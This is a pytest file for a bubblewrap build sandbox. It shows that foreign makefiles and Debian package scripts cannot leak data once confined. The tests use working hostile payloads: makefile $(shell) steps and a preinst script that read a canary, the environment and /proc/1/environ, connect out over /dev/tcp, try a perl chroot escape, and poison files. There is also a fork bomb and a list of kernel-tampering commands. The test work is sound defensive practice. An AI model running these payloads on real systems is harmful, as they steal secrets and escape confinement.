"""Foreign code reads, writes, reaches and poisons nothing: as root and as an ordinary user.

Each attack works without the sandbox (the controls), so what the sandbox shows is the sandbox's.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import socket
import stat
import subprocess
import tempfile
import threading
import tracemalloc
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import cast

import pytest

from lab.compile.image import build as image_build
from lab.compile.image.series import BuildTree
from lab.core.errors import HostError, InputError, ToolError
from lab.host.images import buildtree, linux, sandbox, virtual_time
from lab.host.images import recipes as image_recipes
from lab.host.images import workspace as image_workspace
from lab.host.images.build import _finished, _take_modules
from lab.host.images.buildtree import KeptTree
from lab.host.images.sandbox import Box
from lab.host.system import process
from tests.fakes import git

NOBODY = 65534
USERS = [NOBODY, 0] if os.geteuid() == 0 else [os.geteuid()]
pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is missing")


@dataclass
class World:
    """What an attack is after, in a directory that any user can use."""

    place: Path
    port: int
    heard: list[str]

    @property
    def canary(self) -> Path:
        return self.place / "canary"

    @property
    def written(self) -> Path:
        return self.place / "public/written"

    def makefile(self, poisoned: str) -> str:
        """Return a GNUmakefile that make prefers, with every attack, below a directory `got`."""
        return (
            f"$(shell mkdir -p got; cat {self.canary} >got/canary; env >got/environment;"
            f" tr '\\0' '\\n' </proc/1/environ >>got/environment;"
            f" echo 1 >{self.written}; bash -c 'echo hello >/dev/tcp/127.0.0.1/{self.port}';"
            f" echo poison >>{poisoned})\n"
            "include Makefile\n"
        )

    def forget(self) -> None:
        self.heard.clear()
        self.written.unlink(missing_ok=True)


@pytest.fixture
def world(monkeypatch: pytest.MonkeyPatch) -> Iterator[World]:
    place = Path(tempfile.mkdtemp(prefix="lab-sandbox-"))
    place.chmod(0o755)
    for name in ("public", "scripts", "home"):
        (place / name).mkdir()
        (place / name).chmod(0o755 if name == "home" else 0o777)
    for name in (*sorted(p.name for p in image_recipes.directory().glob("*.sh")), "linux.config"):
        shutil.copyfile(image_recipes.directory() / name, place / "scripts" / name)
    (place / "canary").write_text("the canary sings")
    monkeypatch.setattr(image_recipes, "directory", lambda: place / "scripts")
    monkeypatch.setattr(image_workspace, "check_space", lambda *_: None)
    monkeypatch.setenv("LAB_HOME", str(place / "home"))
    monkeypatch.setenv("SECRET", "a token")
    heard: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.05)
        done = threading.Event()

        def listen() -> None:
            while not done.is_set():
                try:
                    connection, _ = server.accept()
                except TimeoutError:
                    continue
                connection.close()
                heard.append("a connection")

        thread = threading.Thread(target=listen, daemon=True)
        thread.start()
        yield World(place, server.getsockname()[1], heard)
        done.set()
        thread.join()
    shutil.rmtree(place)


def as_user(user: int, act: Callable[[], None]) -> str:
    """Do it as this user, who has the home; return the class and message of its error, or
    nothing."""
    home = Path(os.environ["LAB_HOME"])
    if os.geteuid() == 0:
        os.chown(home, user, user)
    read, write = os.pipe()
    if (child := os.fork()) == 0:
        try:
            said = ""
            if user != os.geteuid():
                os.setgroups([])
                os.setresgid(user, user, user)
                os.setresuid(user, user, user)
            os.umask(0o022)
            act()
        except BaseException as error:
            said = f"{type(error).__name__}: {error}"
        os.write(write, said.encode()[:4000])
        os._exit(0)
    os.close(write)
    with os.fdopen(read, "rb") as stream:
        said = stream.read().decode()
    os.waitpid(child, 0)
    if os.geteuid() == 0:
        os.chown(home, 0, 0)
    return said


def tree_at(world: World, target: str) -> KeptTree:
    """Return a kept tree whose programs are those of this host."""
    place = world.place / "home/tree"
    place.mkdir()
    place.chmod(0o777)
    (place / "root").symlink_to("/")
    recipe = image_recipes.load("debian-12")[1]
    plan = BuildTree(target=target, version="1", key="key", packages=(), recipe=recipe)
    return KeptTree(plan=plan, directory=place)


HONEST = "mdadm mdmon:\n\tcp /bin/true $@\n"


def source_at(place: Path, **files: str) -> Path:
    place.mkdir()
    place.chmod(0o777)
    for name, text in files.items():
        (place / name).write_text(text)
    return place


def stolen(source: Path) -> tuple[str, str]:
    """Return the canary and the environment, as far as the attack got them."""
    return (source / "got/canary").read_text(), (source / "got/environment").read_text()


@pytest.mark.parametrize("user", USERS)
def test_a_series_with_every_attack_gets_nothing(
    user: int, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    tree = tree_at(world, "mdadm")
    kept = world.place / "home/tree/kept"
    kept.write_text("kept")
    kept.chmod(0o666)
    evil = world.makefile(str(kept))

    control = source_at(world.place / "public/control", Makefile=HONEST, GNUmakefile=evil)
    said = as_user(user, lambda: unboxed(control))
    assert said == ""
    assert stolen(control)[0] == "the canary sings"
    assert "SECRET=a token" in stolen(control)[1]
    assert (world.heard, world.written.exists()) == (["a connection"], True)
    assert kept.read_text() == "keptpoison\n"
    world.forget()

    source = source_at(world.place / "public/source", Makefile=HONEST, GNUmakefile=evil)
    work = source_at(world.place / "public/work")
    said = as_user(user, lambda: compiled(tree, source, work))
    assert said == ""
    got, environment = stolen(source)
    assert got == ""
    assert "a token" not in environment
    assert "PATH=" in environment
    assert (world.heard, world.written.exists()) == ([], False)
    assert kept.read_text() == "keptpoison\n"


def unboxed(source: Path) -> None:
    done = process.run(["make", "-C", source, "mdadm"], check=False, timeout=30)
    assert (source / "mdadm").is_file(), done.stderr


def compiled(tree: KeptTree, source: Path, work: Path) -> None:
    made = buildtree.compiled(tree, source, work)
    assert made.keys() == {"mdadm", "mdmon"}
    assert made["mdadm"][:4] == b"\x7fELF"


LINKS = {
    "a link to a file of the user": "\tln -s {canary} $@\n",
    "a hard directory": "\tmkdir $@\n",
    "a FIFO": "\tmkfifo $@\n",
    "a file of 300 MiB": "\ttruncate -s 300M $@\n",
    "another name": "\ttouch $@ /out/../out/evil\n",
}


@pytest.mark.parametrize("kind", LINKS)
def test_only_regular_files_of_expected_names_and_sizes_are_published(
    kind: str, world: World
) -> None:
    recipe = LINKS[kind].format(canary=world.canary)
    # `strip` would refuse most of them before: the attacker brings his own steps
    script = world.place / "scripts/rebuild.sh"
    script.write_text("set -eu\nmake -C /build mdadm\ncp -R --no-dereference /build/mdadm /out/\n")
    source = source_at(world.place / "public/source", Makefile=f"mdadm:\n{recipe}")
    work = source_at(world.place / "public/work")
    with pytest.raises(InputError, match="what was built is not used: it made"):
        buildtree.compiled(tree_at(world, "mdadm"), source, work)


def test_without_the_sandbox_s_reading_a_link_is_followed(world: World) -> None:
    """The control of the test above."""
    link = world.place / "public/mdadm"
    link.symlink_to(world.canary)
    assert link.read_bytes() == b"the canary sings"
    with pytest.raises(InputError, match="not a regular file"):
        sandbox.take(link.parent, ["mdadm"], most=100)


# -- limits


def test_a_fork_bomb_and_a_memory_hog_are_stopped(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    work = source_at(world.place / "public/work")
    monkeypatch.setattr(sandbox, "PROCESSES", 40)
    bomb = "for i in $(seq 60); do sleep 30 & done; wait"
    with pytest.raises(ToolError, match=r"processes, at most 40|status"):
        sandbox.run(Box(), ("sh", "-c", bomb), work=work, log=work / "log", seconds=20)
    monkeypatch.setattr(sandbox, "PROCESSES", 2048)
    monkeypatch.setattr(sandbox, "MEMORY", 64 << 20)
    monkeypatch.setattr(os, "sysconf", lambda _name: 0)
    hog = "x = bytearray(200 << 20); import time; time.sleep(30)"
    with pytest.raises(ToolError, match="of memory, at most 64"):
        sandbox.run(Box(), ("python3", "-c", hog), work=work, log=work / "log", seconds=20)


def test_memory_that_no_process_has_is_limited(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    work = source_at(world.place / "public/work")
    monkeypatch.setattr(sandbox, "MEMORY", 64 << 20)
    monkeypatch.setattr(os, "sysconf", lambda _name: 0)
    hog = "head -c 200M /dev/zero >/tmp/x; exec sleep 15"
    with pytest.raises(ToolError, match=r"shared memory grew by .*, at most 64"):
        sandbox.run(Box(), ("sh", "-c", hog), work=work, log=work / "log", seconds=10)


def test_a_huge_log_is_not_read_whole(world: World) -> None:
    """Sandbox and caller read its end; what ends before the watch looks is told of too."""
    log = source_at(world.place / "public/work") / "log"
    tracemalloc.start()
    try:
        process.run(("sh", "-c", f"echo end; truncate -s 300M {log}; echo end >>{log}"), log=log)
        assert process.tail(log).endswith("end\n")
        assert tracemalloc.get_traced_memory()[1] < 16 << 20
        log.read_bytes()  # the control
        assert tracemalloc.get_traced_memory()[1] > 256 << 20
    finally:
        tracemalloc.stop()
    box = Box(write={"/place": log.parent})
    with pytest.raises(ToolError, match="printed more than"):
        sandbox.run(box, ("truncate", "-s", "65M", "/place/log"), work=log.parent, log=log)


def test_what_is_taken_has_one_budget(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for version in ("1", "2"):
        (tmp_path / "left" / version).mkdir(parents=True)
        for name in ("a.ko", "b.ko"):
            (tmp_path / "left" / version / name).write_bytes(b"x" * 60)
    one = tmp_path / "left/1"
    assert len(sandbox.take(one, ["a.ko", "b.ko"], most=120)) == 2
    with pytest.raises(InputError, match=r"'b\.ko' with 60, at most 59 are left"):
        sandbox.take(one, ["a.ko", "b.ko"], most=119)
    monkeypatch.setitem(_take_modules.__globals__, "_MOST", 240)
    _take_modules("mine", tmp_path / "left", tmp_path / "all")
    monkeypatch.setitem(_take_modules.__globals__, "_MOST", 239)
    with pytest.raises(InputError, match=r"'mine' could not be built: .*'b\.ko'"):
        _take_modules("mine", tmp_path / "left", tmp_path / "not-all")
    monkeypatch.setattr(sandbox, "ENTRIES", 1)
    for taking in (
        lambda: sandbox.take(one, ["a.ko", "b.ko"], most=120),
        lambda: sandbox.names(one),
    ):
        with pytest.raises(InputError, match="more than 1 files"):
            taking()


def test_no_other_user_reaches_what_foreign_code_leaves(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A commit's object or a tree's program may be setuid; also trees of earlier versions close."""
    work = source_at(world.place / "public/work")
    (work / "linux").mkdir()
    program = work / "linux/program"
    program.write_text("#!/bin/sh\n")
    program.chmod(0o4755)
    tree = image_workspace.home() / f"{image_workspace.TREE}k"
    tree.mkdir()
    tree.chmod(0o755)
    linux._keep(work, linux.Commit(sha="1", date="", title=""), tree / "source-1")
    kept = tree / "source-1/linux/program"
    assert stat.S_IMODE((tree / "source-1").stat().st_mode) == 0o700
    assert kept.stat().st_mode & stat.S_ISUID

    def reach(path: Path) -> None:
        path.stat()

    if os.geteuid() == 0:
        assert as_user(NOBODY, lambda: reach(tree)) == ""
        assert "PermissionError" in as_user(NOBODY, lambda: reach(kept))
    recipe = image_recipes.load("debian-12")[1]
    plan = BuildTree(target="md", version="1", key="k", packages=(), recipe=recipe)
    with buildtree.held(plan, "mine", lambda *_: None) as held:
        assert stat.S_IMODE(held.directory.stat().st_mode) == 0o700

    def fill(words: tuple[str, ...], **_: object) -> None:
        place = next(image_workspace.home().glob(".work-*"))
        (place / "root").mkdir()
        (place / "source.tar").write_text("")

    monkeypatch.setattr(process, "run", fill)
    buildtree._make(plan, "mine", world.place / "home/made", lambda *_: None)
    assert stat.S_IMODE((world.place / "home/made").stat().st_mode) == 0o700


def test_time_files_and_output_are_limited(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    work = source_at(world.place / "public/work")
    out = source_at(world.place / "public/out")
    log = work / "log"
    with pytest.raises(ToolError, match="did not end within 1 seconds"):
        sandbox.run(Box(), ("sleep", "30"), work=work, log=log, seconds=1)
    words = ("dd", "if=/dev/zero", "of=/out/x", "bs=1M", "count=3")
    with pytest.raises(ToolError):
        sandbox.run(Box(write={"/out": out}, file=1 << 20), words, work=work, log=log)
    assert (out / "x").stat().st_size <= 1 << 20
    monkeypatch.setattr(sandbox, "LOG", 1000)
    with pytest.raises(ToolError, match="printed more than"):
        sandbox.run(Box(), ("yes",), work=work, log=log, seconds=20)


def test_nothing_is_left_and_no_process_outlives_it(world: World) -> None:
    work = source_at(world.place / "public/work")
    lower = source_at(world.place / "public/lower", file="below")
    box = Box(over={"/source": lower})
    words = ("sh", "-c", "setsid sleep 97531 & echo above >/source/file; mkdir /source/x")
    sandbox.run(box, words, work=work, log=work / "log", seconds=20)
    assert (lower / "file").read_text() == "below"
    assert [p.name for p in work.iterdir()] == ["log"]
    assert "97531" not in subprocess.run(["ps", "ax"], capture_output=True, text=True).stdout


@pytest.mark.parametrize("packages", [False, True])
def test_root_of_the_sandbox_changes_no_setting_of_the_kernel(packages: bool, world: World) -> None:
    """Root's own id would own the files in /proc/sys; it has no capability for mounting either."""
    if packages and os.geteuid():
        pytest.skip("needs subordinate ids")
    work = source_at(world.place / "public/work")
    tries = (
        "echo 1 >/proc/sys/vm/overcommit_memory",
        "echo x >/proc/sysrq-trigger",
        "mount -t tmpfs tmpfs /tmp",
        "mount -o remount,rw /usr",
        "umount /proc/sys",
        "mknod /tmp/disk b 8 0",
        "unshare --user --map-root-user true",
        "touch /usr/here",
        "cat /proc/kcore",
    )
    tests = "".join(f"({one}) >/tmp/o 2>&1 && echo 'worked: {one}'\n" for one in tries)
    box = Box(packages=packages)
    sandbox.run(box, ("sh", "-c", f"{tests}true"), work=work, log=work / "log", seconds=20)
    assert (work / "log").read_text() == ""


def test_a_host_without_user_namespaces_is_refused_with_the_command(
    monkeypatch: pytest.MonkeyPatch, world: World
) -> None:
    def refuse(words: tuple[str, ...], **_: object) -> None:
        raise ToolError("'bwrap' ended with status 1: bwrap: No permissions to create namespace")

    source = source_at(world.place / "public/source", Makefile="mdadm:\n\ttouch /tmp/ran\n")
    monkeypatch.setattr(process, "run", refuse)
    with pytest.raises(HostError, match="user namespaces are not allowed") as caught:
        buildtree.compiled(tree_at(world, "mdadm"), source, source.parent)
    assert "max_user_namespaces" in caught.value.hint


# -- a kernel's objects are kept


LINUX = """\
allnoconfig:
\techo CONFIG_64BIT=y >.config
\tfor o in MODULES BLK_DEV_INITRD VIRTIO_BLK VIRTIO_NET EXT4_FS BLK_DEV_MD MD_RAID1 MD_RAID10 \\
\t  MD_RAID456; do echo CONFIG_$$o=y >>.config; done
bzImage: arch/x86/boot/bzImage
arch/x86/boot/bzImage: drivers/md/md.o
\tmkdir -p arch/x86/boot; cp drivers/md/md.o $@
drivers/md/md.o: drivers/md/md.c
\tcp $< $@; echo built >>drivers/md/log
modules:
\t[ -z "$(M)" ] || touch $(M)/lab_disk.ko
"""


@pytest.fixture
def repository(world: World) -> Path:
    """A kernel of one file: `base`, its child `evil` with every attack, and `good` beside it."""
    place = world.place / "repository"
    (place / "drivers/md").mkdir(parents=True)
    git(place, "init", "-q", "-b", "base")
    (place / "Makefile").write_text(LINUX)
    (place / "drivers/md/md.c").write_text("base\n")
    (place / "drivers/md/gone").write_text("gone\n")
    git(place, "add", "-A")
    git(place, "commit", "-q", "-m", "base")
    git(place, "checkout", "-q", "-b", "evil")
    poison = "drivers/md/md.o /linux/drivers/md/md.c /linux/Makefile /usr/bin/make .git/config"
    evil = "".join(f"$(shell echo poison=1 >>{one})\n" for one in poison.split())
    (place / "GNUmakefile").write_text(world.makefile("/linux/arch/poison") + evil)
    git(place, "add", "-A")
    git(place, "commit", "-q", "-m", "evil")
    git(place, "checkout", "-q", "-b", "good", "base")
    (place / "drivers/md/md.c").write_text("good\n")
    git(place, "rm", "-q", "drivers/md/gone")
    git(place, "commit", "-q", "-a", "-m", "good")
    return place


def build(repository: Path, name: str, tree: KeptTree, work: Path) -> bytes:
    """Build a commit as `linux.built` does with a tree that is held."""
    which = linux.commit(repository, name)
    source = tree.directory / "source-x"
    work.mkdir()
    below = linux._below(repository, which, source)
    linux._check_out(repository, which, work, below)
    kernel = linux._compiled(tree, work, source if below else None)
    if below is None:
        linux._keep(work, which, source)
    return kernel.read_bytes()


def test_a_commit_poisons_no_other_one(repository: Path, world: World) -> None:
    tree = tree_at(world, "linux")
    stamp = tree.directory / "source-x/linux/drivers/md/log"
    assert build(repository, "base", tree, world.place / "public/1") == b"base\n"
    before = digest(tree.directory / "source-x")
    assert b"poison" in build(repository, "evil", tree, world.place / "public/2")
    assert digest(tree.directory / "source-x") == before
    assert (world.heard, world.written.exists()) == ([], False)
    assert build(repository, "good", tree, world.place / "public/3") == b"good\n"
    assert build(repository, "base", tree, world.place / "public/4") == b"base\n"
    assert digest(tree.directory / "source-x") == before
    assert stamp.read_text() == "built\n"  # the objects of `base` were used again


def test_a_commit_chooses_no_driver_for_the_kernel_of_another(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LAB_HOME", str(tmp_path / "home"))

    def compiled(work: str, driver: bytes) -> Path:
        found = {"bzImage": b"kernel"} | dict.fromkeys(virtual_time.DRIVER, driver)
        monkeypatch.setattr(buildtree, "run_script", lambda *_, **__: found)
        (tmp_path / work).mkdir()
        return linux._compiled(
            KeptTree(plan=cast(BuildTree, None), directory=tmp_path), tmp_path / work, None
        )

    kernel = compiled("1", b"a driver")
    assert compiled("2", b"a driver") == kernel
    with pytest.raises(HostError, match="another driver"):
        compiled("3", b"another")
    assert {f.read_bytes() for f in virtual_time.own_driver(kernel).iterdir()} == {b"a driver"}


def test_objects_of_a_commit_that_is_no_ancestor_are_not_used(
    repository: Path, world: World
) -> None:
    tree = tree_at(world, "linux")
    assert b"poison" in build(repository, "evil", tree, world.place / "public/1")
    assert build(repository, "good", tree, world.place / "public/2") == b"good\n"
    assert (tree.directory / "source-x/commit").read_text() == git(repository, "rev-parse", "good")
    assert not (tree.directory / "source-x/linux/GNUmakefile").exists()


def test_a_commit_changes_files_that_are_removed_or_become_others(
    repository: Path, world: World
) -> None:
    tree = tree_at(world, "linux")
    build(repository, "base", tree, world.place / "public/1")
    git(repository, "checkout", "-q", "good")
    (repository / "drivers/md/md.c").unlink()
    (repository / "drivers/md/md.c").symlink_to("../other.c")
    (repository / "drivers/other.c").write_text("linked\n")
    (repository / "drivers/md/gone").mkdir()
    (repository / "drivers/md/gone/file").write_text("x")
    makefile = LINUX.replace("cp $<", "cat drivers/md/gone/file >/dev/null; cp $<")
    (repository / "Makefile").write_text(makefile)
    git(repository, "add", "-A")
    git(repository, "commit", "-q", "-m", "links")
    assert build(repository, "good", tree, world.place / "public/2") == b"linked\n"


def digest(place: Path) -> str:
    total = hashlib.sha256()
    for path in sorted(place.rglob("*")):
        total.update(f"{path} {stat.S_IFMT(path.lstat().st_mode)}".encode())
        total.update(path.read_bytes() if path.is_file() and not path.is_symlink() else b"")
    return total.hexdigest()


# -- packages


PREINST = """\
#!/bin/sh
mkdir -p /etc/got /tmp/escape
env >/etc/got/environment
tr '\\0' '\\n' </proc/1/environ >>/etc/got/environment
perl -e 'chroot "/tmp/escape"; chdir ".." for 1..50; chroot ".";
    print <F> if open F, "<", "{canary}"; print STDERR "escaped" if open F, ">", "{written}";
' >/etc/got/canary 2>/etc/got/said
perl -MIO::Socket::INET -e 'IO::Socket::INET->new("127.0.0.1:{port}") or die' 2>/dev/null || true
"""
UNPACK = "dpkg --install /mnt/*.deb"
"""What is run in `chroot` by the lab, and in the control."""


def root_at(place: Path) -> Path:
    """Make a root file system whose /usr is to be that of this host, with an empty dpkg."""
    for name in ("usr", "etc", "tmp", "mnt", "proc", "dev", "var/lib/dpkg/info", "var/log"):
        (place / name).mkdir(parents=True)
    for name in ("var/lib/dpkg/updates", "var/lib/dpkg/triggers", "var/cache/debconf"):
        (place / name).mkdir(parents=True)
    (place / "var/lib/dpkg/status").touch()
    for name in ("bin", "sbin", "lib", "lib64"):
        (place / name).symlink_to(f"usr/{name}")
    shutil.copy("/etc/ld.so.cache", place / "etc/ld.so.cache")
    shutil.copytree("/etc/alternatives", place / "etc/alternatives", symlinks=True)
    return place


@pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("dpkg-deb") is None, reason="needs root, and dpkg"
)
def test_the_scripts_of_a_package_get_nothing(world: World) -> None:
    assert UNPACK in image_build.INSTALL
    package = world.place / "package"
    (package / "DEBIAN").mkdir(parents=True)
    (package / "etc").mkdir()
    (package / "etc/evil.conf").write_text("installed\n")
    (package / "DEBIAN/control").write_text(
        "Package: evil\nVersion: 1\nArchitecture: all\nMaintainer: A <a@b>\nDescription: x\n"
    )
    script = package / "DEBIAN/preinst"
    text = PREINST.replace("{canary}", str(world.canary))
    text = text.replace("{written}", str(world.written)).replace("{port}", str(world.port))
    script.write_text(text)
    script.chmod(0o755)
    debs = world.place / "debs"
    debs.mkdir()
    words = ["dpkg-deb", "--root-owner-group", "--build", str(package), str(debs / "evil.deb")]
    subprocess.run(words, check=True, capture_output=True)

    control = root_at(world.place / "control")
    shutil.copy(debs / "evil.deb", control / "mnt")
    mounts = "".join(f"mount --bind {one} {control}{one}; " for one in ("/usr", "/dev"))
    steps = f"{mounts}mount -t proc proc {control}/proc; exec chroot"
    process.run(
        image_build.namespaced(("sh", "-euc", f'{steps} {control} sh -euc "{UNPACK}"'), root=True),
        timeout=60,
    )
    assert (control / "etc/evil.conf").is_file()
    assert (control / "etc/got/canary").read_text() == "the canary sings"
    assert "SECRET=a token" in (control / "etc/got/environment").read_text()
    assert (world.heard, world.written.exists()) == (["a connection"], True)
    world.forget()

    root = root_at(world.place / "root")
    work = source_at(world.place / "public/work")
    box = Box(
        packages=True,
        root="/target",
        read={"/target/mnt": debs, "/target/usr": Path("/usr")},
        write={"/target": root},
    )
    inside = ("sh", "-euc", f"chroot /target sh -euc '{UNPACK}'")
    sandbox.run(box, inside, work=work, log=work / "log", seconds=60)
    assert (root / "etc/evil.conf").is_file()
    assert (root / "etc/got/canary").read_text() == ""
    assert "a token" not in (root / "etc/got/environment").read_text()
    assert (world.heard, world.written.exists()) == ([], False)


@pytest.mark.skipif(os.geteuid() != 0, reason="needs subordinate ids")
def test_modules_that_the_trees_script_left_are_taken_and_links_are_not(world: World) -> None:
    """The script gets the tree and the working directory, and leaves `modules/VERSION/NAME.ko`."""
    work = world.place / "public/build"
    for name in ("usr/sbin", "mnt", "proc", "dev"):
        (work / image_build.MODULES.root / name).mkdir(parents=True)
    (work / "source").write_text("linux-source\n")
    script = work / image_build.MODULES.hook
    script.write_text(
        'set -eu\n[ "$(cat "$2/source")" = linux-source ]\n[ -d "$1/usr/sbin" ]\n'
        "mkdir $2/modules/7.2\necho module >$2/modules/7.2/md-mod.ko\n"
        "touch $2/modules/7.2/other\nln -s / $2/modules/link\necho x >$2/source || true\n"
    )
    log = work / "log"
    (made,) = _finished(image_build.MODULES, work, log, ("modules",))
    with pytest.raises(InputError, match="'other', which is not expected"):
        _take_modules("mine", made, work / "taken-not")
    (made / "7.2/other").unlink()
    _take_modules("mine", made, work / "taken")
    assert (work / "taken/7.2/md-mod.ko").read_text() == "module\n"
    assert [p.name for p in (work / "taken").iterdir()] == ["7.2"]
    assert (work / "source").read_text() == "linux-source\n"
    (made / "7.2/raid1.ko").symlink_to("/etc/passwd")
    with pytest.raises(InputError, match=r"'raid1\.ko', which is not a regular file"):
        _take_modules("mine", made, work / "taken-link")
    assert not (work / image_build.MODULES.root / "usr/sbin/policy-rc.d").exists()
